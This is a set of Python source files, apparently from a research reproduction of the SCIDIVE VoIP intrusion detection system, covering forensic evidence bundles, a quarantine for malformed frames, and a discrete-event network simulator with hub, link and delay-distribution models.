            session_ring = self._sessions.get(("call", alert.session))
            write_bundle(
                self.bundle_dir, alert, graph,
                provenance_records=records,
                session_records=list(session_ring.records) if session_ring else (),
            )
            self.bundles_written += 1

    def _build_graph(
        self, alert: "Alert", alert_id: str
    ) -> tuple[ProvenanceGraph, list[FrameRecord]]:
        alert_node = f"alert:{alert_id}"
        frames: list[dict] = []
        footprints: list[dict] = []
        events: list[dict] = []
        edges: list[list[str]] = []
        fp_nodes: dict[int, str] = {}
        records_used: dict[int, FrameRecord] = {}
        for index, event in enumerate(alert.events):
            event_node = f"event:{index}"
            events.append({
                "node": event_node,
                "name": event.name,
                "time": round(event.time, 6),
                "session": event.session,
            })
            edges.append([event_node, alert_node])
            for fp in event.evidence:
                node = fp_nodes.get(id(fp))
                if node is None:
                    node = f"footprint:{len(footprints)}"
                    fp_nodes[id(fp)] = node
                    entry = {
                        "node": node,
                        "protocol": fp.protocol.value,
                        "timestamp": round(fp.timestamp, 6),
                        "summary": describe_footprint(fp),
                    }
                    record = self._by_fp.get(id(fp))
                    if record is not None:
                        if record.record_id not in records_used:
                            records_used[record.record_id] = record
                            frames.append({
                                "node": f"frame:{record.record_id}",
                                "frame_no": record.frame_no,
                                "timestamp": round(record.timestamp, 6),
                                "bytes": len(record.frame),
                                "protocol": fp.protocol.value,
                                "summary": describe_footprint(fp),
                            })
                        entry["frame_no"] = record.frame_no
                        edges.append([f"frame:{record.record_id}", node])
                    footprints.append(entry)
                edges.append([node, event_node])
        frames.sort(key=lambda f: f["timestamp"])
        graph = ProvenanceGraph(
            alert_id=alert_id,
            rule_id=alert.rule_id,
            alert_time=alert.time,
            frames=frames,
            footprints=footprints,
            events=events,
            edges=edges,
        )
        return graph, list(records_used.values())


# ---------------------------------------------------------------------------
# Evidence bundles
# ---------------------------------------------------------------------------


def write_bundle(
    bundle_dir: str | Path,
    alert: "Alert",
    graph: ProvenanceGraph,
    provenance_records: list[FrameRecord],
    session_records: "list[FrameRecord] | tuple" = (),
) -> Path:
    """Write ``<alert-id>.json`` + ``<alert-id>.pcap`` and return the
    JSON path.  The JSON alone suffices for ``repro explain``; the pcap
    holds the raw frames for replay through any pcap tool."""
    from repro.net.pcap import write_pcap
    from repro.sim.trace import Trace

    directory = Path(bundle_dir)
    directory.mkdir(parents=True, exist_ok=True)
    in_provenance = {record.record_id for record in provenance_records}
    merged: dict[int, FrameRecord] = {
        record.record_id: record
        for record in list(session_records) + list(provenance_records)
    }
    ordered = sorted(merged.values(), key=lambda r: (r.timestamp, r.record_id))
    payload = {
        "format": BUNDLE_FORMAT,
        "alert": alert.to_dict(),
        "provenance": graph.to_dict(),
        "frames": [
            {
                "record_id": record.record_id,
                "frame_no": record.frame_no,
                "timestamp": round(record.timestamp, 6),
                "bytes": len(record.frame),
                "summary": describe_footprint(record.footprint),
                "in_provenance": record.record_id in in_provenance,
            }
            for record in ordered
        ],
    }
    json_path = directory / f"{graph.alert_id}.json"
    with open(json_path, "w", encoding="utf-8") as fh:
        json.dump(payload, fh, indent=2, sort_keys=True)
        fh.write("\n")
    pcap_trace = Trace(name=graph.alert_id)
    for record in ordered:
        pcap_trace.append(record.timestamp, record.frame)
    write_pcap(directory / f"{graph.alert_id}.pcap", pcap_trace)
    return json_path


def write_malformed_bundle(
    bundle_dir: str | Path, recorder: ForensicsRecorder
) -> Path | None:
    """Write the quarantine ring as ``malformed.json`` + ``malformed.pcap``
    so hostile input survives the run for offline inspection.  Returns
    None (and writes nothing) when the quarantine is empty."""
    from repro.net.pcap import write_pcap
    from repro.sim.trace import Trace

    records = recorder.malformed_records()
    if not records:
        return None
    directory = Path(bundle_dir)
    directory.mkdir(parents=True, exist_ok=True)
    payload = {
        "format": BUNDLE_FORMAT,
        "malformed": True,
        "engine": recorder.engine_name,
        "frames": [
            {
                "record_id": record.record_id,
                "frame_no": record.frame_no,
                "timestamp": round(record.timestamp, 6),
                "bytes": len(record.frame),
                "claimed_protocol": record.footprint.protocol.value,
                "reason": getattr(record.footprint, "reason", ""),
                "src": str(record.footprint.src),
                "dst": str(record.footprint.dst),
            }
            for record in records
        ],
    }
    json_path = directory / f"{MALFORMED_BUNDLE_ID}.json"
    with open(json_path, "w", encoding="utf-8") as fh:
        json.dump(payload, fh, indent=2, sort_keys=True)
        fh.write("\n")
    pcap_trace = Trace(name=MALFORMED_BUNDLE_ID)
    for record in sorted(records, key=lambda r: (r.timestamp, r.record_id)):
        pcap_trace.append(record.timestamp, record.frame)
    write_pcap(directory / f"{MALFORMED_BUNDLE_ID}.pcap", pcap_trace)
    return json_path


def format_malformed_bundle(bundle: dict) -> str:
    """Render the quarantine bundle: one line per rejected frame."""
    frames = bundle.get("frames", [])
    lines = [
        f"MALFORMED QUARANTINE — {len(frames)} rejected frame(s) "
        f"(engine {bundle.get('engine', '?')})",
        "",
    ]
    for frame in frames:
        lines.append(
            f"  t={float(frame['timestamp']):10.4f}  frame #{frame['frame_no']:<6} "
            f"{frame['src']} -> {frame['dst']}  "
            f"claimed={frame['claimed_protocol']}  {frame['bytes']}B"
        )
        if frame.get("reason"):
            lines.append(f"      reason: {frame['reason']}")
    lines.append("")
    lines.append("raw frames: malformed.pcap alongside this bundle")
    return "\n".join(lines)


def list_bundles(bundle_dir: str | Path) -> list[str]:
    directory = Path(bundle_dir)
    if not directory.is_dir():
        return []
    return sorted(p.stem for p in directory.glob("*.json"))


def load_bundle(bundle_dir: str | Path, alert_id: str) -> dict:
    path = Path(bundle_dir) / f"{alert_id}.json"
    with open(path, encoding="utf-8") as fh:
        payload = json.load(fh)
    if payload.get("format") != BUNDLE_FORMAT:
        raise ValueError(
            f"unsupported bundle format {payload.get('format')!r} in {path}"
        )
    return payload


def format_bundle(bundle: dict) -> str:
    """Render a bundle (graph + timeline) from its JSON alone."""
    if bundle.get("malformed"):
        return format_malformed_bundle(bundle)
    alert = bundle.get("alert", {})
    graph = ProvenanceGraph.from_dict(bundle.get("provenance", {}))
    lines = [
        f"ALERT {graph.alert_id}  {alert.get('rule_id')} "
        f"({alert.get('severity')}) t={alert.get('time')} "
        f"session={alert.get('session') or '-'}",
        f"  {alert.get('message', '')}",
    ]
    if alert.get("pack_version") or alert.get("rule_source"):
        provenance = alert.get("pack_version", "?")
        source = alert.get("rule_source")
        lines.append(
            f"  rule: {provenance}" + (f"  ({source})" if source else "")
        )
    delay = graph.detection_delay
    if delay is not None:
        lines.append(f"  detection delay: {delay * 1000:.1f} ms")
    lines.append("")
    lines.append("Provenance (causes, leaves outermost):")
    lines.append(graph.render())
    lines.append("")
    lines.append("Timeline:")
    rows: list[tuple[float, str]] = []
    for frame in bundle.get("frames", []):
        marker = "*" if frame.get("in_provenance") else " "
        rows.append((
            float(frame["timestamp"]),
            f"{marker} frame #{frame['frame_no']:<6} {frame['summary']}",
        ))
    for event in graph.events:
        rows.append((float(event["time"]), f"* event {event['name']}"))
    rows.append((
        float(alert.get("time", graph.alert_time)),
        f"* ALERT {alert.get('rule_id')}: {alert.get('message', '')}",
    ))
    rows.sort(key=lambda r: r[0])
    for when, text in rows:
        lines.append(f"  t={when:10.4f}  {text}")
    return "\n".join(lines)
