"""Link models: per-hop delay, jitter and loss.

A :class:`LinkModel` decides, for each frame, whether it is delivered and
after how long.  The testbed in the paper is a shared 100 Mb/s hub; delays
there are sub-millisecond, but the Section 4.3 analysis explicitly reasons
about wide-area delay distributions, so the model is pluggable.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.sim.distributions import Constant, Distribution


@dataclass(slots=True)
class LinkModel:
    """Stochastic delivery model for one hop.

    Parameters
    ----------
    delay:
        Distribution of one-way delay in seconds.
    loss_rate:
        Independent per-frame drop probability in ``[0, 1]``.
    bandwidth_bps:
        Optional serialisation-rate limit.  When set, each frame adds
        ``8 * len(frame) / bandwidth_bps`` of transmission time and frames
        queue behind each other (FIFO per link).
    """

    delay: Distribution = field(default_factory=lambda: Constant(0.0005))
    loss_rate: float = 0.0
    bandwidth_bps: float | None = None
    # Internal: virtual time at which the link's transmitter frees up.
    _tx_free_at: float = field(default=0.0, repr=False)

    def __post_init__(self) -> None:
        if not 0.0 <= self.loss_rate <= 1.0:
            raise ValueError(f"loss_rate must be in [0,1]: {self.loss_rate}")
        if self.bandwidth_bps is not None and self.bandwidth_bps <= 0:
            raise ValueError(f"bandwidth must be positive: {self.bandwidth_bps}")

    def delivery_delay(self, frame_len: int, now: float, rng: random.Random) -> float | None:
        """Return the total delay for a frame sent at ``now``.

        ``None`` means the frame is lost.  The returned value already
        includes queueing behind earlier frames when a bandwidth limit is
        configured.
        """
        if self.loss_rate > 0.0 and rng.random() < self.loss_rate:
            return None
        queueing = 0.0
        if self.bandwidth_bps is not None:
            tx_time = 8.0 * frame_len / self.bandwidth_bps
            start = max(now, self._tx_free_at)
            self._tx_free_at = start + tx_time
            queueing = (start - now) + tx_time
        prop = self.delay.sample(rng)
        if prop < 0:
            prop = 0.0
        return queueing + prop


def lan_link() -> LinkModel:
    """A hub-segment link: ~0.5 ms fixed delay, lossless (paper testbed)."""
    return LinkModel(delay=Constant(0.0005), loss_rate=0.0)


def wan_link(mean_delay: float = 0.040, loss_rate: float = 0.0) -> LinkModel:
    """A wide-area link with exponential jitter around ``mean_delay``."""
    from repro.sim.distributions import Exponential

    # 5 ms floor plus exponential tail adding up to the requested mean.
    floor = min(0.005, mean_delay / 2.0)
    return LinkModel(delay=Exponential(scale=mean_delay - floor, shift=floor), loss_rate=loss_rate)
