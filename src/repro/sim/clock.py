"""Simulated clock for the discrete-event kernel.

All SCIDIVE components take a :class:`Clock` so that the same code runs
against the simulator (deterministic virtual time) and, in principle,
against a wall clock.  Times are floats in **seconds** throughout the
code base; millisecond quantities from the paper (e.g. the 20 ms RTP
period) are expressed as ``0.020``.
"""

from __future__ import annotations


class Clock:
    """A monotonically non-decreasing virtual clock.

    The event loop is the only writer; everything else reads via
    :meth:`now`.
    """

    __slots__ = ("_now",)

    def __init__(self, start: float = 0.0) -> None:
        if start < 0:
            raise ValueError(f"clock cannot start before zero: {start!r}")
        self._now = float(start)

    def now(self) -> float:
        """Return the current virtual time in seconds."""
        return self._now

    def advance_to(self, t: float) -> None:
        """Move the clock forward to ``t``.

        Raises :class:`ValueError` if ``t`` is in the past; the
        simulation kernel must never travel backwards.
        """
        if t < self._now:
            raise ValueError(f"clock cannot move backwards: {t} < {self._now}")
        self._now = float(t)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"Clock(now={self._now:.6f})"
