"""Nodes and network interfaces.

A :class:`Node` is anything attached to the simulated medium: a VoIP
client, the SIP proxy, the attacker, or the IDS sniffer.  Nodes exchange
raw Ethernet frames (``bytes``); all higher-layer behaviour lives in
:mod:`repro.net.stack` and above, mirroring a real host where the NIC
driver hands frames to the kernel.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Callable, Protocol

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from repro.sim.hub import Hub
    from repro.sim.eventloop import EventLoop

FrameHandler = Callable[[bytes, float], None]


class Medium(Protocol):
    """Anything an interface can transmit onto (hub, point-to-point link)."""

    def transmit(self, sender: "NetworkInterface", frame: bytes) -> None: ...


class NetworkInterface:
    """One attachment point between a node and a medium.

    ``promiscuous`` interfaces receive every frame on the segment — this is
    how the SCIDIVE sniffer tap observes client A's traffic in the paper's
    Figure 4 topology.
    """

    def __init__(self, node: "Node", mac: str, promiscuous: bool = False) -> None:
        self.node = node
        self.mac = mac
        self.promiscuous = promiscuous
        self.medium: Medium | None = None
        self.frames_sent = 0
        self.frames_received = 0

    def attach(self, medium: Medium) -> None:
        if self.medium is not None:
            raise RuntimeError(f"interface {self.mac} already attached")
        self.medium = medium

    def send(self, frame: bytes) -> None:
        """Transmit a frame onto the attached medium."""
        if self.medium is None:
            raise RuntimeError(f"interface {self.mac} not attached to a medium")
        self.frames_sent += 1
        self.medium.transmit(self, frame)

    def deliver(self, frame: bytes, now: float) -> None:
        """Called by the medium when a frame arrives at this interface."""
        self.frames_received += 1
        self.node.on_frame(self, frame, now)


class Node:
    """Base class for all simulated hosts.

    Subclasses override :meth:`on_frame`.  A node may own several
    interfaces (e.g. a gateway); the single-homed helper
    :meth:`default_interface` covers the common case.
    """

    def __init__(self, name: str, loop: "EventLoop") -> None:
        self.name = name
        self.loop = loop
        self.interfaces: list[NetworkInterface] = []

    def add_interface(self, mac: str, promiscuous: bool = False) -> NetworkInterface:
        iface = NetworkInterface(self, mac, promiscuous=promiscuous)
        self.interfaces.append(iface)
        return iface

    def default_interface(self) -> NetworkInterface:
        if not self.interfaces:
            raise RuntimeError(f"node {self.name} has no interfaces")
        return self.interfaces[0]

    def on_frame(self, iface: NetworkInterface, frame: bytes, now: float) -> None:
        """Handle an arriving frame.  Default: drop silently."""

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"{type(self).__name__}({self.name!r})"


class CallbackNode(Node):
    """A node that forwards every frame to a user-supplied callback.

    Used for taps and for tests that only need to observe traffic.
    """

    def __init__(self, name: str, loop: "EventLoop", handler: FrameHandler) -> None:
        super().__init__(name, loop)
        self._handler = handler

    def on_frame(self, iface: NetworkInterface, frame: bytes, now: float) -> None:
        self._handler(frame, now)
