"""Topology builder: wires loops, hubs and nodes together.

:class:`Network` owns the event loop, a shared RNG and any number of
hubs.  It is the root object every scenario and benchmark starts from::

    net = Network(seed=7)
    hub = net.add_hub()
    alice = SomeNode("alice", net.loop)
    net.attach(hub, alice.add_interface("02:00:00:00:00:01"))
    net.run_for(5.0)
"""

from __future__ import annotations

import random

from repro.sim.eventloop import EventLoop
from repro.sim.hub import Hub
from repro.sim.link import LinkModel
from repro.sim.node import NetworkInterface, Node


class Network:
    """A complete simulated network: loop + media + nodes."""

    def __init__(self, seed: int = 0) -> None:
        self.loop = EventLoop()
        self.rng = random.Random(seed)
        self.hubs: list[Hub] = []
        self.nodes: list[Node] = []
        self._mac_counter = 0

    # -- construction ---------------------------------------------------

    def add_hub(self, name: str | None = None) -> Hub:
        hub = Hub(self.loop, rng=self.rng, name=name or f"hub{len(self.hubs)}")
        self.hubs.append(hub)
        return hub

    def register(self, node: Node) -> Node:
        """Track a node so topology introspection can find it."""
        self.nodes.append(node)
        return node

    def attach(self, hub: Hub, iface: NetworkInterface, link: LinkModel | None = None) -> None:
        hub.attach(iface, link)

    def next_mac(self) -> str:
        """Allocate a locally-administered MAC address."""
        self._mac_counter += 1
        c = self._mac_counter
        return f"02:00:00:{(c >> 16) & 0xFF:02x}:{(c >> 8) & 0xFF:02x}:{c & 0xFF:02x}"

    # -- execution --------------------------------------------------------

    def run_for(self, seconds: float) -> None:
        """Advance the simulation by ``seconds`` of virtual time."""
        self.loop.run_until(self.loop.now() + seconds)

    def run_until(self, t: float) -> None:
        self.loop.run_until(t)

    def now(self) -> float:
        return self.loop.now()

    def find_node(self, name: str) -> Node:
        for node in self.nodes:
            if node.name == name:
                return node
        raise KeyError(f"no node named {name!r}")
