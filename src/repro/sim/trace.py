"""Packet traces: timestamped frame sequences.

A :class:`Trace` is the interchange format between the simulated network
and the IDS: the sniffer tap appends ``(timestamp, frame)`` records, and
the SCIDIVE engine (or the Snort-like baseline) consumes them either
online or after the fact.  Traces also round-trip through pcap files via
:mod:`repro.net.pcap`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterator


@dataclass(frozen=True, slots=True)
class TraceRecord:
    """One captured frame."""

    timestamp: float
    frame: bytes

    def __len__(self) -> int:
        return len(self.frame)


@dataclass(slots=True)
class Trace:
    """An append-only ordered sequence of captured frames."""

    name: str = "capture"
    records: list[TraceRecord] = field(default_factory=list)

    def append(self, timestamp: float, frame: bytes) -> None:
        if self.records and timestamp < self.records[-1].timestamp:
            raise ValueError(
                f"trace timestamps must be non-decreasing: "
                f"{timestamp} < {self.records[-1].timestamp}"
            )
        self.records.append(TraceRecord(timestamp, frame))

    def __iter__(self) -> Iterator[TraceRecord]:
        return iter(self.records)

    def __len__(self) -> int:
        return len(self.records)

    @property
    def duration(self) -> float:
        """Seconds between the first and last captured frame."""
        if len(self.records) < 2:
            return 0.0
        return self.records[-1].timestamp - self.records[0].timestamp

    @property
    def total_bytes(self) -> int:
        return sum(len(r.frame) for r in self.records)

    def between(self, t_start: float, t_end: float) -> "Trace":
        """Return a sub-trace with records in ``[t_start, t_end]``."""
        sub = Trace(name=f"{self.name}[{t_start:.3f},{t_end:.3f}]")
        sub.records = [r for r in self.records if t_start <= r.timestamp <= t_end]
        return sub
