"""Discrete-event scheduler.

The kernel is a classic calendar queue built on :mod:`heapq`.  Events are
``(time, sequence, callback)`` triples; the sequence number breaks ties so
that events scheduled for the same instant run in FIFO order, which keeps
runs deterministic — a property the reproduction leans on heavily (every
benchmark seeds its RNG and expects identical packet interleavings).
"""

from __future__ import annotations

import heapq
import itertools
from dataclasses import dataclass, field
from typing import Any, Callable

from repro.sim.clock import Clock


@dataclass(order=True, slots=True)
class _ScheduledEvent:
    time: float
    seq: int
    callback: Callable[[], None] = field(compare=False)
    cancelled: bool = field(default=False, compare=False)


class EventHandle:
    """Handle returned by :meth:`EventLoop.call_at`; supports cancellation."""

    __slots__ = ("_event",)

    def __init__(self, event: _ScheduledEvent) -> None:
        self._event = event

    def cancel(self) -> None:
        """Prevent the callback from running.  Idempotent."""
        self._event.cancelled = True

    @property
    def cancelled(self) -> bool:
        return self._event.cancelled

    @property
    def when(self) -> float:
        return self._event.time


class EventLoop:
    """A deterministic discrete-event loop.

    Usage::

        loop = EventLoop()
        loop.call_at(1.5, lambda: print("hello at t=1.5"))
        loop.run_until(10.0)
    """

    def __init__(self, clock: Clock | None = None) -> None:
        self.clock = clock if clock is not None else Clock()
        self._queue: list[_ScheduledEvent] = []
        self._seq = itertools.count()
        self._events_run = 0

    # -- scheduling ---------------------------------------------------

    def call_at(self, when: float, callback: Callable[[], None]) -> EventHandle:
        """Schedule ``callback`` to run at absolute time ``when``."""
        if when < self.clock.now():
            raise ValueError(
                f"cannot schedule into the past: {when} < {self.clock.now()}"
            )
        event = _ScheduledEvent(time=float(when), seq=next(self._seq), callback=callback)
        heapq.heappush(self._queue, event)
        return EventHandle(event)

    def call_later(self, delay: float, callback: Callable[[], None]) -> EventHandle:
        """Schedule ``callback`` to run ``delay`` seconds from now."""
        if delay < 0:
            raise ValueError(f"negative delay: {delay}")
        return self.call_at(self.clock.now() + delay, callback)

    # -- execution ----------------------------------------------------

    def step(self) -> bool:
        """Run the single earliest pending event.

        Returns ``False`` when the queue is empty (nothing ran).
        """
        while self._queue:
            event = heapq.heappop(self._queue)
            if event.cancelled:
                continue
            self.clock.advance_to(event.time)
            self._events_run += 1
            event.callback()
            return True
        return False

    def run_until(self, t_end: float) -> None:
        """Run all events with timestamps ``<= t_end``, then advance to it.

        Events scheduled by callbacks during the run are honoured if they
        also fall inside the horizon.
        """
        while self._queue:
            head = self._queue[0]
            if head.cancelled:
                heapq.heappop(self._queue)
                continue
            if head.time > t_end:
                break
            self.step()
        self.clock.advance_to(max(t_end, self.clock.now()))

    def run(self, max_events: int | None = None) -> int:
        """Drain the queue completely (or until ``max_events``).

        Returns the number of events executed.  ``max_events`` is a guard
        against runaway self-rescheduling sources.
        """
        ran = 0
        while self.step():
            ran += 1
            if max_events is not None and ran >= max_events:
                break
        return ran

    # -- introspection --------------------------------------------------

    @property
    def pending(self) -> int:
        """Number of not-yet-cancelled events still queued."""
        return sum(1 for e in self._queue if not e.cancelled)

    @property
    def events_run(self) -> int:
        return self._events_run

    def now(self) -> float:
        return self.clock.now()
