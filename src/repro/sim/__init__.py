"""Discrete-event network simulation kernel.

This package replaces the paper's physical testbed: a deterministic event
loop (:mod:`~repro.sim.eventloop`), stochastic link models
(:mod:`~repro.sim.link`, :mod:`~repro.sim.distributions`), a broadcast hub
(:mod:`~repro.sim.hub`) and frame-level nodes (:mod:`~repro.sim.node`).
"""

from repro.sim.clock import Clock
from repro.sim.distributions import Constant, Distribution, Exponential, Normal, Pareto, Uniform
from repro.sim.eventloop import EventHandle, EventLoop
from repro.sim.hub import Hub
from repro.sim.link import LinkModel, lan_link, wan_link
from repro.sim.network import Network
from repro.sim.node import CallbackNode, NetworkInterface, Node
from repro.sim.trace import Trace, TraceRecord

__all__ = [
    "CallbackNode",
    "Clock",
    "Constant",
    "Distribution",
    "EventHandle",
    "EventLoop",
    "Exponential",
    "Hub",
    "LinkModel",
    "Network",
    "NetworkInterface",
    "Node",
    "Normal",
    "Pareto",
    "Trace",
    "TraceRecord",
    "Uniform",
    "lan_link",
    "wan_link",
]
