"""Delay distributions used by the network model and the Section 4.3 analysis.

The paper's detection-delay model treats per-packet network delays
(``N_rtp``, ``N_sip``) and the attacker's message-generation offset
(``G_sip``) as random variables.  Each distribution here exposes:

* :meth:`sample` — draw a value (uses an injected :class:`random.Random`
  so simulations are reproducible),
* :meth:`pdf` / :meth:`cdf` — densities for the analytic models in
  :mod:`repro.core.analysis`,
* :attr:`mean` — closed-form expectation.

Distributions are value objects: immutable and hashable so they can key
caches in the analysis code.
"""

from __future__ import annotations

import math
import random
from abc import ABC, abstractmethod
from dataclasses import dataclass


class Distribution(ABC):
    """A one-dimensional random variable over seconds."""

    @abstractmethod
    def sample(self, rng: random.Random) -> float:
        """Draw one value."""

    @abstractmethod
    def pdf(self, t: float) -> float:
        """Probability density at ``t``."""

    @abstractmethod
    def cdf(self, t: float) -> float:
        """Cumulative probability ``P(X <= t)``."""

    @property
    @abstractmethod
    def mean(self) -> float:
        """Closed-form expectation."""

    @property
    @abstractmethod
    def support(self) -> tuple[float, float]:
        """(lo, hi) bounds outside which the pdf is zero (hi may be inf)."""


@dataclass(frozen=True, slots=True)
class Constant(Distribution):
    """Degenerate distribution — every sample equals ``value``."""

    value: float

    def sample(self, rng: random.Random) -> float:
        return self.value

    def pdf(self, t: float) -> float:
        # Dirac delta: represented as 0 everywhere for numeric purposes;
        # the analysis code special-cases Constant via `support`.
        return math.inf if t == self.value else 0.0

    def cdf(self, t: float) -> float:
        return 1.0 if t >= self.value else 0.0

    @property
    def mean(self) -> float:
        return self.value

    @property
    def support(self) -> tuple[float, float]:
        return (self.value, self.value)


@dataclass(frozen=True, slots=True)
class Uniform(Distribution):
    """Uniform on ``[lo, hi]`` — the paper's model for ``G_sip`` on (0, 20 ms)."""

    lo: float
    hi: float

    def __post_init__(self) -> None:
        if self.hi < self.lo:
            raise ValueError(f"uniform needs lo <= hi, got [{self.lo}, {self.hi}]")

    def sample(self, rng: random.Random) -> float:
        return rng.uniform(self.lo, self.hi)

    def pdf(self, t: float) -> float:
        if self.lo <= t <= self.hi and self.hi > self.lo:
            return 1.0 / (self.hi - self.lo)
        return 0.0

    def cdf(self, t: float) -> float:
        if t < self.lo:
            return 0.0
        if t >= self.hi:
            return 1.0
        return (t - self.lo) / (self.hi - self.lo)

    @property
    def mean(self) -> float:
        return (self.lo + self.hi) / 2.0

    @property
    def support(self) -> tuple[float, float]:
        return (self.lo, self.hi)


@dataclass(frozen=True, slots=True)
class Exponential(Distribution):
    """Exponential with mean ``scale`` — a common one-way-delay model."""

    scale: float
    shift: float = 0.0

    def __post_init__(self) -> None:
        if self.scale <= 0:
            raise ValueError(f"exponential scale must be positive: {self.scale}")

    def sample(self, rng: random.Random) -> float:
        return self.shift + rng.expovariate(1.0 / self.scale)

    def pdf(self, t: float) -> float:
        x = t - self.shift
        if x < 0:
            return 0.0
        return math.exp(-x / self.scale) / self.scale

    def cdf(self, t: float) -> float:
        x = t - self.shift
        if x < 0:
            return 0.0
        return 1.0 - math.exp(-x / self.scale)

    @property
    def mean(self) -> float:
        return self.shift + self.scale

    @property
    def support(self) -> tuple[float, float]:
        return (self.shift, math.inf)


@dataclass(frozen=True, slots=True)
class Normal(Distribution):
    """Gaussian truncated at zero (delays cannot be negative).

    The truncation is handled by resampling in :meth:`sample` and by
    renormalising the density; for the ``mu >> sigma`` regimes used in the
    benchmarks the correction is negligible but we keep it exact.
    """

    mu: float
    sigma: float

    def __post_init__(self) -> None:
        if self.sigma <= 0:
            raise ValueError(f"normal sigma must be positive: {self.sigma}")

    def _z(self) -> float:
        """P(X >= 0) for the untruncated Gaussian."""
        return 1.0 - self._phi_cdf(-self.mu / self.sigma)

    @staticmethod
    def _phi_cdf(z: float) -> float:
        return 0.5 * (1.0 + math.erf(z / math.sqrt(2.0)))

    def sample(self, rng: random.Random) -> float:
        while True:
            x = rng.gauss(self.mu, self.sigma)
            if x >= 0:
                return x

    def pdf(self, t: float) -> float:
        if t < 0:
            return 0.0
        z = (t - self.mu) / self.sigma
        base = math.exp(-0.5 * z * z) / (self.sigma * math.sqrt(2.0 * math.pi))
        return base / self._z()

    def cdf(self, t: float) -> float:
        if t < 0:
            return 0.0
        num = self._phi_cdf((t - self.mu) / self.sigma) - self._phi_cdf(-self.mu / self.sigma)
        return num / self._z()

    @property
    def mean(self) -> float:
        # Mean of the zero-truncated Gaussian.
        alpha = -self.mu / self.sigma
        phi = math.exp(-0.5 * alpha * alpha) / math.sqrt(2.0 * math.pi)
        return self.mu + self.sigma * phi / self._z()

    @property
    def support(self) -> tuple[float, float]:
        return (0.0, math.inf)


@dataclass(frozen=True, slots=True)
class Pareto(Distribution):
    """Shifted Pareto — heavy-tailed delays for stress scenarios."""

    xm: float
    alpha: float

    def __post_init__(self) -> None:
        if self.xm <= 0 or self.alpha <= 0:
            raise ValueError(f"pareto needs positive xm and alpha: {self.xm}, {self.alpha}")

    def sample(self, rng: random.Random) -> float:
        # Inverse-CDF sampling.
        u = rng.random()
        return self.xm / ((1.0 - u) ** (1.0 / self.alpha))

    def pdf(self, t: float) -> float:
        if t < self.xm:
            return 0.0
        return self.alpha * (self.xm**self.alpha) / (t ** (self.alpha + 1.0))

    def cdf(self, t: float) -> float:
        if t < self.xm:
            return 0.0
        return 1.0 - (self.xm / t) ** self.alpha

    @property
    def mean(self) -> float:
        if self.alpha <= 1.0:
            return math.inf
        return self.alpha * self.xm / (self.alpha - 1.0)

    @property
    def support(self) -> tuple[float, float]:
        return (self.xm, math.inf)
