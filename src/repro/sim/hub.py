"""Shared-medium hub — the paper's Figure 4 topology element.

The testbed in the paper connects clients, proxy and the IDS through an
Ethernet hub so that the IDS can observe client A's traffic passively.
Our :class:`Hub` broadcasts every transmitted frame to all other attached
interfaces, applying a per-attachment :class:`~repro.sim.link.LinkModel`
(delay / jitter / loss) on the way.

Unicast filtering happens at the receiving interface: non-promiscuous
interfaces only get frames whose destination MAC matches their own or is
broadcast, which is exactly what a NIC without promiscuous mode does.
The destination MAC is read directly from the Ethernet header bytes so
the hub stays payload-agnostic.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.sim.eventloop import EventLoop
from repro.sim.link import LinkModel, lan_link
from repro.sim.node import NetworkInterface

ETHERNET_BROADCAST = "ff:ff:ff:ff:ff:ff"


def _destination_mac(frame: bytes) -> str:
    """Extract the destination MAC from the first 6 bytes of a frame."""
    if len(frame) < 6:
        return ETHERNET_BROADCAST
    return ":".join(f"{b:02x}" for b in frame[:6])


@dataclass(slots=True)
class _Attachment:
    iface: NetworkInterface
    link: LinkModel


class Hub:
    """A broadcast segment with per-port link models."""

    def __init__(self, loop: EventLoop, rng: random.Random | None = None, name: str = "hub") -> None:
        self.loop = loop
        self.name = name
        self.rng = rng if rng is not None else random.Random(0)
        self._attachments: list[_Attachment] = []
        self.frames_switched = 0
        self.frames_dropped = 0
        self.frames_filtered = 0
        # Inline enforcement points (e.g. a firewall installed by the
        # active-response subsystem): each gets (frame) and may veto
        # delivery by returning False.
        self._filters: list = []

    def install_filter(self, predicate) -> None:
        """Add an allow/deny predicate applied to every frame."""
        self._filters.append(predicate)

    def attach(self, iface: NetworkInterface, link: LinkModel | None = None) -> None:
        """Plug an interface into the hub with an optional link model."""
        self._attachments.append(_Attachment(iface, link if link is not None else lan_link()))
        iface.attach(self)

    def transmit(self, sender: NetworkInterface, frame: bytes) -> None:
        """Broadcast ``frame`` to every other attached interface."""
        now = self.loop.now()
        for predicate in self._filters:
            if not predicate(frame):
                self.frames_filtered += 1
                return
        dst_mac = _destination_mac(frame)
        self.frames_switched += 1
        for attachment in self._attachments:
            iface = attachment.iface
            if iface is sender:
                continue
            if not iface.promiscuous and dst_mac not in (iface.mac, ETHERNET_BROADCAST):
                continue
            delay = attachment.link.delivery_delay(len(frame), now, self.rng)
            if delay is None:
                self.frames_dropped += 1
                continue
            # Bind loop variables explicitly; late binding in the closure
            # would deliver the wrong frame.
            self.loop.call_later(
                delay,
                lambda i=iface, f=frame: i.deliver(f, self.loop.now()),
            )

    @property
    def ports(self) -> int:
        return len(self._attachments)
