"""Compile a :class:`~repro.rulespec.model.RulePack` onto the engine's rules.

The DSL deliberately has no runtime of its own: every shape lowers onto
one of the existing rule classes (``SingleEventRule`` / ``ThresholdRule``
/ ``SequenceRule`` / ``ConjunctionRule``), so the compiled pack inherits
trigger-event indexing, cooldown suppression, LRU group caps, the
exception firewall and per-rule checkpointing without any new code
paths.  Proving DSL-vs-class alert equivalence therefore reduces to
proving the compiler reproduces each constructor call — which the
defaults below are matched against.

``group_by`` / ``correlate`` key specs:

=================  ======================================================
``session``        the event's session id (the class default)
``attr:NAME``      ``event.attrs[NAME]``, falling back to the session
``const:VALUE``    a fixed key — all events share one group (the
                   billing-fraud correlation)
``builtin:NAME``   a named Python key function from
                   :data:`BUILTIN_GROUP_KEYS` (e.g. ``media_src``,
                   which packs Endpoint objects into C-hashable tuples)
=================  ======================================================

``where`` clauses are ``ATTR OP VALUE`` comparisons over ``event.attrs``
(ANDed when repeated); a missing attribute or a type-incompatible
comparison makes the clause false, mirroring how the hand-written
predicates treat absent attributes.
"""

from __future__ import annotations

from typing import Callable

